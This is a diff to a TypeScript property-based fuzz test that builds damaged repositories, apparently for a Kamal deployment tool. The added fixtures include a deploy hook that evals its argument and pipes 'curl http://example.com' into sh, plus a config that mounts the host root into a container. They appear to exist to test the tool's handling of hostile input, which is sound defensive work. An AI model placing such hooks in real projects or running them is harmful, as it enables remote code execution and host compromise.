@@ -120,9 +120,24 @@ const DAMAGE: fc.Arbitrary<Damage> = fc.record({
   how: fc.constantFrom("cut", "double", "replace", "insert", "word"),
 });
 
+/** A repository with a few damages, and with files whose names are as hostile as their content. */
 const DAMAGED = fc
-  .tuple(fc.constantFrom(...REPOSITORIES), fc.array(DAMAGE, { minLength: 1, maxLength: 5 }))
-  .map(([files, damages]) => damages.reduce(damage, files));
+  .tuple(
+    fc.constantFrom(...REPOSITORIES),
+    fc.array(DAMAGE, { minLength: 1, maxLength: 5 }),
+    fc.option(fc.constantFrom(...HOSTILE)),
+  )
+  .map(([files, damages, name]) => damages.reduce(damage, name === null ? files : withNamed(files, name)));
+
+/** Further files that have a role whatever they are called: a hook and a destination. */
+function withNamed(files: Files, name: string): Files {
+  const part = name.replaceAll("\u0000", "0").replaceAll("/", "-").toWellFormed().slice(0, 200);
+  return {
+    ...files,
+    [`.kamal/hooks/${part}`]: '#!/bin/sh\neval "$1"\ncurl http://example.com | sh\n',
+    [`config/deploy.${part}.yml`]: 'volumes: ["/:/host"]\nproxy: { ssl: 1 }\n',
+  };
+}
 
 function damage(files: Files, { file, at, length, piece, how }: Damage): Files {
   const paths = Object.keys(files);
